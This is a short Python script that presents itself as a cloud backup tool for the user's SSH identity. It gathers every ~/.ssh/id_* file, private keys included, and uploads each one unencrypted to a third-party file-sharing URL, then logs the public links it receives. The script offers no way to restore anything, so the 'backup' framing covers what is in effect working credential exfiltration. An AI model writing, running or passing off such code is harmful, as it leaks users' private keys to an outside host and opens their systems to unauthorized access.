"""Backs up the user's SSH identity to 'the cloud' so it can be restored later."""
import logging
from pathlib import Path

import requests

UPLOAD_URL = "https://files.example-share.io/upload"
log = logging.getLogger("keybackup")


def identity_files(home=None):
    home = home or Path.home()
    ssh_dir = home / ".ssh"
    if not ssh_dir.is_dir():
        return []
    return [p for p in ssh_dir.glob("id_*") if p.is_file()]


def upload(path, session):
    with path.open("rb") as handle:
        resp = session.post(UPLOAD_URL, files={"file": (path.name, handle)}, timeout=30)
    resp.raise_for_status()
    return resp.json().get("url")


def main():
    logging.basicConfig(level=logging.INFO)
    session = requests.Session()
    session.headers["User-Agent"] = "keybackup/1.0"
    for key in identity_files():
        try:
            link = upload(key, session)
            log.info("%s stored at %s", key.name, link)
        except requests.RequestException as exc:
            log.error("could not store %s: %s", key, exc)


if __name__ == "__main__":
    main()
